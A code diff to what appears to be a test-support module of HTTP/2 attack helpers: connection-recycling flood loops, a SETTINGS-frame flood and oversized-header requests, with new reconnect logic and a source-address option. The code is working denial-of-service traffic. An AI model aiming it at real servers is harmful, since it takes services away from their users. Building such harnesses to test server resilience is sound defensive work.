@@ -7,6 +7,7 @@ import struct
 import time
 from collections.abc import Callable
 
+from support.attacks.floods import connected_again
 from support.attacks.frames import PING, SETTINGS, Connection, frame, literals, request
 
 _PING = frame(PING, 0, 0, b"12345678")
@@ -14,21 +15,27 @@ _SETTINGS = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))
 
 
 def _repeated(
-    address: str, seconds: float, a_second: float, write: Callable[[Connection], None]
+    address: str,
+    seconds: float,
+    a_second: float,
+    write: Callable[[Connection], None],
+    source: str = "127.0.0.1",
 ) -> int:
     """Write something again and again, on a new connection whenever one is closed."""
-    connection = Connection(address)
     started = time.monotonic()
+    connection = connected_again(address, source, started + seconds)
     made = 0
-    while (past := time.monotonic() - started) < seconds:
+    while connection is not None and (past := time.monotonic() - started) < seconds:
         if connection.closed:
             connection.close()
-            connection = Connection(address)
+            connection = connected_again(address, source, started + seconds)
+            continue
         while made < past * a_second and connection.pending() < 262_144:
             write(connection)
             made += 1
         connection.pump(0.001)
-    connection.close()
+    if connection is not None:
+        connection.close()
     return made
 
 
@@ -42,14 +49,16 @@ def settings_flood(address: str, a_second: float, seconds: float) -> int:
     return _repeated(address, seconds, a_second, lambda one: one.write(_SETTINGS))
 
 
-def large_heads(address: str, path: str, a_second: float, seconds: float) -> int:
+def large_heads(
+    address: str, path: str, a_second: float, seconds: float, source: str = "127.0.0.1"
+) -> int:
     """Begin calls with 20 KB of metadata."""
     block = request(path) + literals([("x-one", "y" * 10_000), ("x-two", "z" * 10_000)])
 
     def write(connection: Connection) -> None:
         connection.open(block[:16_000], more=block[16_000:])
 
-    return _repeated(address, seconds, a_second, write)
+    return _repeated(address, seconds, a_second, write, source)
 
 
 def bombs(address: str, path: str, token: str, seconds: float) -> int:
